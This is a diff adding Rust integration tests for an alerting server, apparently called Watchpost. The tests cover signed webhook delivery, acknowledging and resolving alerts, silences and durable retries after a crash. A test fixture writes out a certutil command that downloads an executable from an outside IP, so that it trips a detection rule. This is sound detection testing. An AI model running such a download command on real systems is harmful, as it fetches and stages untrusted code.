@@ -1,0 +1,307 @@
+//! The alert path end to end, through the real binary: an event posted to the API becomes a
+//! detection, an alert, a notice in the outbox and a signed webhook call; triage through
+//! the API reaches the receiver; silences hold notices; a `kill -9` loses nothing queued.
+
+mod common;
+
+use axum::Router;
+use axum::body::Bytes;
+use axum::extract::State;
+use axum::http::{HeaderMap, StatusCode};
+use axum::routing::post;
+use common::{Server, eventually, get_json, http};
+use serde_json::{Value, json};
+use std::path::Path;
+use std::sync::atomic::{AtomicU16, Ordering};
+use std::sync::{Arc, Mutex};
+
+/// A webhook receiver that answers with `status` and keeps what it got.
+struct Receiver {
+    status: AtomicU16,
+    got: Mutex<Vec<(u16, HeaderMap, Value)>>,
+    raw: Mutex<Vec<Bytes>>,
+}
+
+impl Receiver {
+    /// Bodies it accepted (answered 2xx), in order.
+    fn accepted(&self) -> Vec<(HeaderMap, Value)> {
+        self.got
+            .lock()
+            .unwrap()
+            .iter()
+            .filter(|(s, _, _)| *s < 300)
+            .map(|(_, h, b)| (h.clone(), b.clone()))
+            .collect()
+    }
+
+    fn kinds(&self) -> Vec<String> {
+        self.accepted()
+            .iter()
+            .map(|(_, b)| b["kind"]["type"].as_str().unwrap_or("").to_string())
+            .collect()
+    }
+}
+
+async fn hook(State(r): State<Arc<Receiver>>, headers: HeaderMap, body: Bytes) -> StatusCode {
+    let status = r.status.load(Ordering::SeqCst);
+    let json = serde_json::from_slice(&body).unwrap_or(Value::Null);
+    r.got.lock().unwrap().push((status, headers, json));
+    r.raw.lock().unwrap().push(body);
+    StatusCode::from_u16(status).unwrap()
+}
+
+async fn receiver(status: u16) -> (String, Arc<Receiver>) {
+    let r = Arc::new(Receiver {
+        status: AtomicU16::new(status),
+        got: Mutex::new(Vec::new()),
+        raw: Mutex::new(Vec::new()),
+    });
+    let app = Router::new()
+        .route("/hook", post(hook))
+        .with_state(Arc::clone(&r));
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
+    (format!("http://{addr}/hook"), r)
+}
+
+/// A configuration with one signed webhook channel and no batching delay.
+fn config(dir: &Path, hook_url: &str) -> String {
+    let path = dir.join("watchpost.toml");
+    std::fs::write(
+        &path,
+        format!(
+            r#"
+[alerting]
+resolve_timeout_seconds = 0
+[alerting.route]
+receiver = "ops"
+group_by = ["..."]
+group_wait_seconds = 0
+group_interval_seconds = 1
+[[alerting.channels]]
+name = "ops"
+type = "webhook"
+url = "{hook_url}"
+secret = "s3cret"
+"#
+        ),
+    )
+    .unwrap();
+    path.display().to_string()
+}
+
+/// A Sysmon process creation that the built-in rules flag (certutil downloading).
+fn certutil_event(host: &str) -> Value {
+    json!([{"host": {"name": host}, "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1,
+        "event_data": {"Image": "C:\\Windows\\System32\\certutil.exe",
+                       "CommandLine": "certutil -urlcache -f http://203.0.113.5/a.exe a.exe"}}}])
+}
+
+async fn post_events(server: &Server, body: &Value) {
+    let status = http()
+        .post(server.url("/api/v1/events"))
+        .json(body)
+        .send()
+        .await
+        .unwrap()
+        .status();
+    assert_eq!(status, 200);
+}
+
+async fn only_alert(server: &Server) -> Value {
+    let page = get_json(&http(), server.url("/api/v1/alerts")).await;
+    let items = page["items"].as_array().unwrap();
+    assert_eq!(items.len(), 1, "{page}");
+    items[0].clone()
+}
+
+fn openssl_hmac(secret: &str, data: &[u8]) -> String {
+    let path = std::env::temp_dir().join(format!("wp-hmac-{}", std::process::id()));
+    std::fs::write(&path, data).unwrap();
+    let out = std::process::Command::new("openssl")
+        .args(["dgst", "-sha256", "-hmac", secret, "-r"])
+        .arg(&path)
+        .output()
+        .unwrap();
+    std::fs::remove_file(&path).unwrap();
+    String::from_utf8(out.stdout)
+        .unwrap()
+        .split_whitespace()
+        .next()
+        .unwrap()
+        .to_string()
+}
+
+#[tokio::test]
+async fn an_event_pages_through_a_signed_webhook_and_triage_reaches_the_receiver() {
+    let dir = tempfile::tempdir().unwrap();
+    let (url, hook) = receiver(200).await;
+    let server = Server::start_with(dir.path(), &["--config", &config(dir.path(), &url)]);
+    post_events(&server, &certutil_event("ws-1")).await;
+    eventually("the firing notice arrives", || async {
+        hook.kinds() == ["firing"]
+    })
+    .await;
+
+    let (headers, body) = hook.accepted().remove(0);
+    assert_eq!(body["alerts"][0]["title"], "Certutil Download or Decode");
+    assert_eq!(body["alerts"][0]["host"], "ws-1");
+    let alert = only_alert(&server).await;
+    assert_eq!(alert["status"], "firing");
+    assert_eq!(body["alerts"][0]["id"], alert["id"]);
+    assert_eq!(headers["idempotency-key"], body["id"].as_str().unwrap());
+    // Check the signature as a receiver would: HMAC-SHA256 over "{timestamp}.{raw body}",
+    // recomputed with an independent tool.
+    let sig = headers["x-watchpost-signature"].to_str().unwrap();
+    let ts = headers["x-watchpost-timestamp"].to_str().unwrap();
+    let mut signed = format!("{ts}.").into_bytes();
+    signed.extend_from_slice(&hook.raw.lock().unwrap()[0]);
+    assert_eq!(sig, format!("v1={}", openssl_hmac("s3cret", &signed)));
+    assert_ne!(sig, format!("v1={}", openssl_hmac("wrong", &signed)));
+
+    // The explanation: route, group, notice, and the delivery attempt.
+    let id = alert["id"].as_str().unwrap();
+    let why = get_json(
+        &http(),
+        server.url(&format!("/api/v1/alerts/{id}/notifications")),
+    )
+    .await;
+    let stages: Vec<&str> = why["trace"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["stage"].as_str().unwrap())
+        .collect();
+    assert_eq!(stages, ["route", "group", "notify"], "{why}");
+    assert_eq!(why["notifications"][0]["status"], "sent");
+    assert_eq!(
+        why["notifications"][0]["attempts_made"][0]["channel"],
+        "ops (webhook)"
+    );
+
+    // Acknowledge, then resolve, through the API: the receiver hears both.
+    let put = |status: &'static str| {
+        let url = server.url(&format!("/api/v1/alerts/{id}/status"));
+        async move {
+            http()
+                .put(url)
+                .json(&json!({"status": status, "by": "ana", "reason": "looking"}))
+                .send()
+                .await
+                .unwrap()
+        }
+    };
+    assert_eq!(put("acknowledged").await.status(), 200);
+    eventually("the acknowledgement arrives", || async {
+        hook.kinds() == ["firing", "acknowledged"]
+    })
+    .await;
+    assert_eq!(put("resolved").await.status(), 200);
+    eventually("the resolved notice arrives", || async {
+        hook.kinds() == ["firing", "acknowledged", "resolved"]
+    })
+    .await;
+    let alert = only_alert(&server).await;
+    assert_eq!(alert["status"], "resolved");
+    let history: Vec<(&str, &str)> = alert["history"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| (c["to"].as_str().unwrap(), c["by"].as_str().unwrap()))
+        .collect();
+    assert_eq!(history, [("acknowledged", "ana"), ("resolved", "ana")]);
+
+    let bad = put("closed").await;
+    assert_eq!(bad.status(), 400);
+    let err: Value = bad.json().await.unwrap();
+    assert_eq!(err["error"]["details"]["parameter"], "status");
+}
+
+#[tokio::test]
+async fn a_silence_holds_the_notice_and_says_so_in_the_trace() {
+    let dir = tempfile::tempdir().unwrap();
+    let (url, hook) = receiver(200).await;
+    let server = Server::start_with(dir.path(), &["--config", &config(dir.path(), &url)]);
+    let created = http()
+        .post(server.url("/api/v1/silences"))
+        .json(
+            &json!({"matchers": ["host=\"ws-9\""], "duration_minutes": 60,
+                      "created_by": "ana", "comment": "reimaging ws-9, CHG-7"}),
+        )
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(created.status(), 201);
+    let refused = http()
+        .post(server.url("/api/v1/silences"))
+        .json(&json!({"matchers": [], "duration_minutes": 60, "created_by": "ana", "comment": "x"}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(refused.status(), 400);
+
+    post_events(&server, &certutil_event("ws-9")).await;
+    eventually("the alert exists", || async {
+        get_json(&http(), server.url("/api/v1/alerts")).await["items"]
+            .as_array()
+            .is_some_and(|a| !a.is_empty())
+    })
+    .await;
+    let id = only_alert(&server).await["id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    eventually("the silence verdict is recorded", || async {
+        let why = get_json(
+            &http(),
+            server.url(&format!("/api/v1/alerts/{id}/notifications")),
+        )
+        .await;
+        why["trace"].as_array().unwrap().iter().any(|e| {
+            e["stage"] == "silence"
+                && e["verdict"] == "suppressed"
+                && e["detail"].as_str().unwrap().contains("CHG-7")
+        })
+    })
+    .await;
+    assert!(hook.accepted().is_empty());
+}
+
+#[tokio::test]
+async fn a_notice_queued_when_the_server_is_killed_is_delivered_after_the_restart() {
+    let dir = tempfile::tempdir().unwrap();
+    let (url, hook) = receiver(503).await;
+    let cfg = config(dir.path(), &url);
+    let mut server = Server::start_with(dir.path(), &["--config", &cfg]);
+    post_events(&server, &certutil_event("ws-2")).await;
+    eventually("the receiver refused a first attempt", || async {
+        !hook.got.lock().unwrap().is_empty()
+    })
+    .await;
+    server.child.kill().unwrap(); // SIGKILL: no graceful shutdown
+    server.child.wait().unwrap();
+    hook.status.store(200, Ordering::SeqCst);
+
+    let server = Server::start_with(dir.path(), &["--config", &cfg]);
+    eventually(
+        "the queued notice is delivered after the restart",
+        || async { hook.kinds() == ["firing"] },
+    )
+    .await;
+    let keys: Vec<String> = hook
+        .got
+        .lock()
+        .unwrap()
+        .iter()
+        .map(|(_, h, _)| h["idempotency-key"].to_str().unwrap().to_string())
+        .collect();
+    assert!(
+        keys.iter().all(|k| k == &keys[0]),
+        "one notice, retried: {keys:?}"
+    );
+    // The restored alert is not announced a second time.
+    tokio::time::sleep(std::time::Duration::from_secs(3)).await;
+    assert_eq!(hook.kinds(), ["firing"]);
+    assert_eq!(only_alert(&server).await["status"], "firing");
+}
